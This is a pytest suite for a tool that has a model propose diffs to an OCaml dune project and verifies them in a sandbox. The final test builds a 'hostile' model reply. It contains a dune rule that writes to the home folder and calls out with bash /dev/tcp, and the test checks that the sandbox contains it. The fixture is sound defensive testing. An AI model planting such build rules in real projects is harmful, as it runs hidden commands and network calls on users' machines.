"""From a prompt to a verified diff: a model over real HTTP, the real dune in a real sandbox."""

import asyncio
import os
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from attrs import define, field

from lsp_aid.ces.sandbox import find_sandbox
from lsp_aid.config import ModelSettings, Settings
from lsp_aid.domain.diagnostics import Diagnostic
from lsp_aid.domain.proposal import Level
from lsp_aid.errors import SandboxError
from lsp_aid.tasks.fix_with_model import fix_with_model
from lsp_aid.tasks.generate_diff import DiffRequest, generate_diff
from lsp_aid.tasks.project import Project
from lsp_aid.wiring import Wiring
from lsp_aid.workspace.disk import apply_changes
from lsp_aid.workspace.view import WorkspaceView
from tests.support.scripted_model import Recorded, ScriptedModel, says

pytestmark = pytest.mark.dune

PROJECT = {
    "dune-project": "(lang dune 3.0)\n",
    "lib/dune": "(library (name stack_lib))\n",
    "lib/stack.ml": "type 'a t = 'a list\n\nlet empty = []\nlet push x s = x :: s\n",
    "lib/stack.mli": "type 'a t\n\nval empty : 'a t\nval push : 'a -> 'a t -> 'a t\n",
    "test/dune": "(test (name test_stack) (libraries stack_lib))\n",
    "test/test_stack.ml": "open Stack_lib\n\nlet () = ignore (Stack.push 1 Stack.empty)\n",
}


def blocks(*edits: tuple[str, str, str]) -> str:
    return "I do it.\n" + "".join(
        f"\n{path}\n```\n<<<<<<< SEARCH\n{search}=======\n{replace}>>>>>>> REPLACE\n```\n"
        for path, search, replace in edits
    )


SIZE_IN_ML = ("lib/stack.ml", "let push x s = x :: s\n", "let push x s = x :: s\nlet size s = List.length s\n")
SIZE_IN_MLI = (
    "lib/stack.mli",
    "val push : 'a -> 'a t -> 'a t\n",
    "val push : 'a -> 'a t -> 'a t\nval size : 'a t -> int\n",
)
SIZE_IN_TEST = (
    "test/test_stack.ml",
    "let () = ignore (Stack.push 1 Stack.empty)\n",
    "let () = ignore (Stack.push 1 Stack.empty)\nlet () = assert (Stack.size (Stack.push 1 Stack.empty) = 1)\n",
)


@define
class Told:
    messages: list[str] = field(factory=list)

    def report(self, message: str) -> None:
        self.messages.append(message)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    for path, text in PROJECT.items():
        (tmp_path / path).parent.mkdir(exist_ok=True)
        (tmp_path / path).write_text(text)
    return tmp_path


@pytest.fixture(autouse=True)
async def _shut_in() -> None:
    try:
        found = await find_sandbox("auto", os.environ)
    except SandboxError:
        found = None
    if found is None:
        pytest.skip("no sandbox works here")


@asynccontextmanager
async def opened(root: Path, *replies: str) -> AsyncIterator[tuple[Project, Sequence[Recorded]]]:
    async with ScriptedModel([says(reply) for reply in replies]) as endpoint:
        settings = Settings(trust="always", model=ModelSettings(url=endpoint.url, name="scripted"))
        project = await Wiring().open_project(root, settings)
        try:
            yield project, endpoint.requests
        finally:
            project.close()


async def test_a_change_of_three_files_is_verified_by_dune(root: Path) -> None:
    async with opened(root, blocks(SIZE_IN_ML, SIZE_IN_MLI, SIZE_IN_TEST)) as (project, requests):
        view = WorkspaceView(root)
        request = DiffRequest("Add a function that tells the size of a stack.", "lib/stack.ml")
        (proposal,) = await generate_diff(project, view, request, Told())
        assert proposal.verdict.level is Level.VERIFIED, proposal.verdict
        assert set(proposal.changes.paths) == {"lib/stack.ml", "lib/stack.mli", "test/test_stack.ml"}
        for text in PROJECT.values():
            assert text in requests[0].prompt
        assert WorkspaceView(root).read("lib/stack.ml") == PROJECT["lib/stack.ml"]  # nothing is applied yet
        apply_changes(root, proposal.changes)
        assert (await project.build.build()).green


async def test_what_the_editor_holds_unsaved_is_what_is_changed(root: Path) -> None:
    unsaved = PROJECT["lib/stack.ml"].replace("x :: s", "List.cons x s")
    view = WorkspaceView(root, {"lib/stack.ml": (unsaved, 3)})
    edit = (
        SIZE_IN_ML[0],
        "let push x s = List.cons x s\n",
        "let push x s = List.cons x s\nlet size s = List.length s\n",
    )
    async with opened(root, blocks(edit, SIZE_IN_MLI)) as (project, _):
        (proposal,) = await generate_diff(project, view, DiffRequest("Add size.", "lib/stack.ml"), Told())
    assert proposal.verdict.level is Level.VERIFIED, proposal.verdict
    assert {change.path: change.before for change in proposal.changes.files}["lib/stack.ml"] == unsaved


async def test_an_answer_that_does_not_type_check_is_mended_in_the_second_round(root: Path) -> None:
    wrong = (SIZE_IN_ML[0], SIZE_IN_ML[1], "let push x s = x :: s\nlet size s = List.lenght s\n")
    told = Told()
    replies = (blocks(wrong, SIZE_IN_MLI), blocks(SIZE_IN_ML, SIZE_IN_MLI))
    async with opened(root, *replies) as (project, requests):
        request = DiffRequest("Add size.", "lib/stack.ml")
        (proposal,) = await generate_diff(project, WorkspaceView(root), request, told)
    assert proposal.verdict.level is Level.VERIFIED, proposal.verdict
    assert "List.lenght" not in (proposal.changes.texts["lib/stack.ml"] or "")
    assert "Unbound value" in requests[1].prompt
    assert "let size s = List.lenght s" in requests[1].prompt
    assert any(message.startswith("Round 2: ") for message in told.messages)


async def test_the_model_fixes_an_error_that_dune_reports(root: Path) -> None:
    (root / "lib" / "stack.ml").write_text(PROJECT["lib/stack.ml"].replace("x :: s", "x +: s"))
    async with opened(root, blocks(("lib/stack.ml", "let push x s = x +: s\n", "let push x s = x :: s\n"))) as (
        project,
        _,
    ):
        view = WorkspaceView(root)
        red: tuple[Diagnostic, ...] = (await project.build.build()).errors
        (proposal,) = await fix_with_model(project, view, red[0], red, Told())
    assert proposal.verdict.level is Level.VERIFIED
    assert proposal.changes.texts == {"lib/stack.ml": PROJECT["lib/stack.ml"]}


def hostile(home: Path, port: int) -> str:
    """A reply whose dune rule writes to the home folder and calls out, and builds green whatever comes of that."""
    script = (
        f"touch {home}/written $HOME/written ~/written; "
        f"bash -c 'echo called > /dev/tcp/127.0.0.1/{port}'; echo 'let ran = true'"
    )
    rule = f'(rule (with-stdout-to gen.ml (system "({script}) 2>/dev/null || true")))\n'
    return blocks(
        ("lib/dune", "(library (name stack_lib))\n", f"(library (name stack_lib))\n{rule}"),
        ("lib/stack.ml", "let empty = []\n", "let empty = if Gen.ran then [] else []\n"),
    )


async def test_a_rule_that_a_model_writes_reaches_neither_home_nor_network(root: Path, home: Path) -> None:
    calls: list[object] = []

    async def answer(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        calls.append(writer.get_extra_info("peername"))
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    async with server, opened(root, hostile(home, server.sockets[0].getsockname()[1])) as (project, _):
        request = DiffRequest("Make the stack empty.", "lib/stack.ml")
        (proposal,) = await generate_diff(project, WorkspaceView(root), request, Told())
        await asyncio.sleep(0)
        assert proposal.verdict.level is Level.VERIFIED, proposal.verdict  # so the rule did run
        assert not (home / "written").exists()
        assert calls == []
        assert "Look at lib/dune" in proposal.explanation
        # Outside of the sandbox, once the user has taken it, it does both: the test would see it.
        apply_changes(root, proposal.changes)
        assert (await project.build.build()).green
        assert (home / "written").exists()
        assert len(calls) == 1
